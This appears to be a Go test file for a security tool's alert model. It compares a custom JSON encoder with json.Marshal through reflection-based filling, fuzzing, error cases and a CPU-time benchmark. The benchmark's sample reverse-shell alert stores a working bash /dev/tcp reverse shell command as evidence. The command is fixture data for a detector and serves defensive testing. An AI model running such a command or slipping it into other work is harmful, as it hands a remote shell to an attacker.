package model

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/palisade-sec/palisade/tests/cputime"
)

// filler sets every field of a value, recursively, from a source of
// values, so that the self-encoding types are compared with json.Marshal
// over all their fields, including fields added later: a kind of field it
// does not know fails the test rather than being skipped.
type filler interface {
	str() string
	num() int64
	flag() bool
	length() int // -1 for nil
	time() time.Time
}

func fill(t testing.TB, v reflect.Value, src filler) {
	t.Helper()
	if v.Type() == reflect.TypeFor[time.Time]() {
		v.Set(reflect.ValueOf(src.time()))
		return
	}
	switch v.Kind() {
	case reflect.String:
		v.SetString(src.str())
	case reflect.Int, reflect.Int64:
		v.SetInt(src.num())
	case reflect.Bool:
		v.SetBool(src.flag())
	case reflect.Struct:
		for i := range v.NumField() {
			fill(t, v.Field(i), src)
		}
	case reflect.Pointer:
		if n := src.length(); n >= 0 {
			v.Set(reflect.New(v.Type().Elem()))
			fill(t, v.Elem(), src)
		}
	case reflect.Slice:
		if n := src.length(); n >= 0 {
			v.Set(reflect.MakeSlice(v.Type(), n, n))
			for i := range n {
				fill(t, v.Index(i), src)
			}
		}
	case reflect.Map:
		if n := src.length(); n >= 0 {
			v.Set(reflect.MakeMap(v.Type()))
			for range n {
				k, e := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
				fill(t, k, src)
				fill(t, e, src)
				v.SetMapIndex(k, e)
			}
		}
	default:
		t.Fatalf("fill: a %s field (%s): teach fill and the type's AppendJSON to encode it", v.Kind(), v.Type())
	}
}

// full gives every field a value json.Marshal writes, and strings that
// need each kind of escape.
type full struct{ n int }

func (f *full) str() string {
	f.n++
	return []string{
		"plain", `q"uote\back/slash`, "<b>&amp;</b>", "tab\tnl\nret\rbs\bff\f\x00\x1f\x7f",
		"sep\u2028para\u2029", "bad\xffutf8\xc3", "ünïcødé 😀 \ufffd", "zz", "a",
	}[f.n%9] + string(rune('A'+f.n%26))
}
func (f *full) num() int64  { f.n++; return int64(f.n) * -7919 }
func (f *full) flag() bool  { return true }
func (f *full) length() int { f.n++; return 2 + f.n%2 }
func (f *full) time() time.Time {
	f.n++
	return time.Date(2026, 11, 30, 20, 42, f.n, 123456789/f.n, time.FixedZone("", -(f.n%5)*1800))
}

// empty gives every field its zero value except that slices, maps and
// pointers are empty but not nil.
type empty struct{}

func (empty) str() string     { return "" }
func (empty) num() int64      { return 0 }
func (empty) flag() bool      { return false }
func (empty) length() int     { return 0 }
func (empty) time() time.Time { return time.Time{} }

// fuzzed takes values from fuzz input; zero values once it runs out.
type fuzzed struct{ data []byte }

func (f *fuzzed) byte() byte {
	if len(f.data) == 0 {
		return 0
	}
	c := f.data[0]
	f.data = f.data[1:]
	return c
}

func (f *fuzzed) str() string {
	n := min(int(f.byte()), len(f.data))
	s := string(f.data[:n])
	f.data = f.data[n:]
	return s
}

func (f *fuzzed) num() int64 {
	if len(f.data) < 8 {
		return int64(int8(f.byte()))
	}
	n := int64(binary.LittleEndian.Uint64(f.data))
	f.data = f.data[8:]
	return n
}

func (f *fuzzed) flag() bool  { return f.byte()&1 == 1 }
func (f *fuzzed) length() int { return int(f.byte()%5) - 1 }
func (f *fuzzed) time() time.Time {
	// Offsets beyond ±24h and years beyond 9999 are ones json.Marshal
	// refuses: AppendJSON must refuse them too.
	zone := time.FixedZone("", int(int16(f.num()))*60)
	return time.Unix(f.num()%(1<<40), f.num()).In(zone)
}

// equalMarshal checks that AppendJSON writes what json.Marshal does, or
// fails when it fails, and appends to what dst held.
func equalMarshal(t *testing.T, a Alert) {
	t.Helper()
	want, wantErr := json.Marshal(a)
	got, err := a.AppendJSON([]byte("prefix"))
	if (err != nil) != (wantErr != nil) {
		t.Fatalf("AppendJSON error %v, json.Marshal error %v for %#v", err, wantErr, a)
	}
	if err != nil {
		return
	}
	if !bytes.HasPrefix(got, []byte("prefix")) {
		t.Fatalf("AppendJSON did not append to dst: %q", got)
	}
	if got = got[len("prefix"):]; !bytes.Equal(got, want) {
		t.Fatalf("AppendJSON differs from json.Marshal:\n got %s\nwant %s", got, want)
	}
}

func TestAlertAppendJSON(t *testing.T) {
	var filled, emptied Alert
	fill(t, reflect.ValueOf(&filled).Elem(), &full{})
	fill(t, reflect.ValueOf(&emptied).Elem(), empty{})
	nilCounts := filled
	nilCounts.Vulnerabilities = new(Counts) // a pointer to a nil map: "null"
	nonUTC := filled
	nonUTC.FirstSeen = nonUTC.FirstSeen.In(time.FixedZone("", 5*3600+30*60))
	for name, a := range map[string]Alert{
		"every field":           filled,
		"zero":                  {},
		"empty slices and maps": emptied,
		"pointer to nil map":    nilCounts,
		"offset":                nonUTC,
		"year 10000":            {LastSeen: time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC)},
		"year before 0":         {WindowStart: time.Date(-1, 1, 1, 0, 0, 0, 0, time.UTC)},
		"triage in year 10000":  {Triage: []Triage{{At: time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC)}}},
		"offset of 24 hours":    {FirstSeen: time.Date(2026, 1, 1, 0, 0, 0, 0, time.FixedZone("", 24*3600))},
		"keys sorted bytewise":  {Evidence: map[string]string{"b": "1", "a": "2", "B": "3", "ä": "4", "\xff": "5", "\xfe": "6"}},
		"whole nanoseconds": {WindowStart: time.Date(2026, 1, 1, 0, 0, 0, 100, time.UTC),
			LastSeen: time.Date(2026, 1, 1, 0, 0, 0, 120000000, time.UTC)},
	} {
		t.Run(name, func(t *testing.T) { equalMarshal(t, a) })
	}
}

// An alert json.Marshal refuses is refused with the field named.
func TestAlertAppendJSONError(t *testing.T) {
	late := time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC)
	for want, a := range map[string]Alert{
		"lastSeen: ":     {LastSeen: late},
		"triage 1: at: ": {Triage: []Triage{{}, {At: late}}},
	} {
		if _, err := a.AppendJSON(nil); err == nil || !strings.HasPrefix(err.Error(), want) {
			t.Errorf("AppendJSON: err = %v, want one starting %q", err, want)
		}
	}
}

// TestFillSetsEveryField guards the guard: the filled alert has no zero
// field, so a field AppendJSON forgets shows in json.Marshal's output.
func TestFillSetsEveryField(t *testing.T) {
	var a Alert
	fill(t, reflect.ValueOf(&a).Elem(), &full{})
	v := reflect.ValueOf(a)
	for i := range v.NumField() {
		if v.Field(i).IsZero() {
			t.Errorf("field %s is zero", v.Type().Field(i).Name)
		}
	}
}

func FuzzAlertAppendJSON(f *testing.F) {
	f.Add([]byte("\x05id<1>\x07cluster\x03\x00\x01\x02\x03\x04\x05\x06\x07"))
	f.Add([]byte("\x04\"\\\n\xff\x03\xe2\x80\xa8\x02&>"))
	f.Fuzz(func(t *testing.T, data []byte) {
		var a Alert
		fill(t, reflect.ValueOf(&a).Elem(), &fuzzed{data})
		equalMarshal(t, a)
	})
}

// BenchmarkAlertEncode compares AppendJSON with json.Marshal on an alert
// of the size detection writes, in CPU time per alert (cpu-ns/op: the
// machines that run benchmarks are shared) and allocations.
func BenchmarkAlertEncode(b *testing.B) {
	a := benchAlert()
	for _, bc := range []struct {
		name   string
		encode func() ([]byte, error)
	}{
		{"json.Marshal", func() ([]byte, error) { return json.Marshal(a) }},
		{"AppendJSON-nil", func() ([]byte, error) { return a.AppendJSON(nil) }},
		{"AppendJSON-4KiB", func() ([]byte, error) { return a.AppendJSON(make([]byte, 0, 4<<10)) }},
	} {
		b.Run(bc.name, func(b *testing.B) {
			b.ReportAllocs()
			cpu0 := cputime.Process(b)
			var n int
			for b.Loop() {
				out, err := bc.encode()
				if err != nil {
					b.Fatal(err)
				}
				n = len(out)
			}
			b.ReportMetric(float64((cputime.Process(b)-cpu0).Nanoseconds())/float64(b.N), "cpu-ns/op")
			b.ReportMetric(float64(n), "bytes/alert")
		})
	}
}

// benchAlert is an alert of the size detection writes: a few evidence
// fields, the bounded event id sample, four partitions' watermarks.
func benchAlert() Alert {
	at := time.Date(2026, 11, 30, 20, 42, 25, 123456789, time.UTC)
	a := Alert{
		ID: "6f1c0e9a2b7d4c3e8f5a1b2c3d4e5f60", Cluster: "aks-prod-westeurope", Type: "ReverseShell",
		RefType: "K8S.NODE_ReverseShell", Title: "Reverse shell detected",
		Description: "A process in a container redirected its standard input and output to a network connection: an attacker may have a shell in the container.",
		Severity:    SeverityHigh, SeverityRank: 4, Tactics: []string{"Execution"}, Techniques: []string{"T1059"},
		Source: "runtime", Rule: "Redirect STDOUT/STDIN to Network Connection in Container",
		Entity: "payments/checkout", Namespace: "payments", Workload: "checkout", Pod: "checkout-7c9f8b6d5-x2x7q",
		Container: "app", Image: "registry.example.com/payments/checkout:1.42.0",
		ImageDigest: "sha256:3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a",
		Node:        "aks-nodepool1-12345678-vmss000003", WindowStart: at.Truncate(time.Hour), Count: 37,
		FirstSeen: at.Add(-time.Minute), LastSeen: at, LastSeenUnix: at.Unix(),
		Evidence: map[string]string{
			"proc.cmdline": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "proc.name": "bash",
			"fd.name": "10.244.1.17:51234->10.0.0.1:4444", "user.name": "root", "container.id": "4f3c2b1a0e9d",
		},
		Watermarks:       map[string]Watermark{},
		RemediationSteps: []string{"Isolate the pod.", "Review the image for tampering.", "Rotate credentials the pod could read."},
		Vulnerabilities:  &Counts{SeverityCritical: 2, SeverityHigh: 11, SeverityMedium: 30},
		Status:           AlertNew, TTL: 7776000,
	}
	for i := range 20 {
		a.EventIDs = append(a.EventIDs, "0f9e8d7c-6b5a-4938-8271-"+time.Duration(i).String()+"a1b2c3d4e5")
	}
	for p := range 4 {
		a.Watermarks["palisade-runtime/"+string(rune('0'+p))] = Watermark{Seq: 123456 + int64(p), EnqueuedMs: at.UnixMilli()}
	}
	return a
}
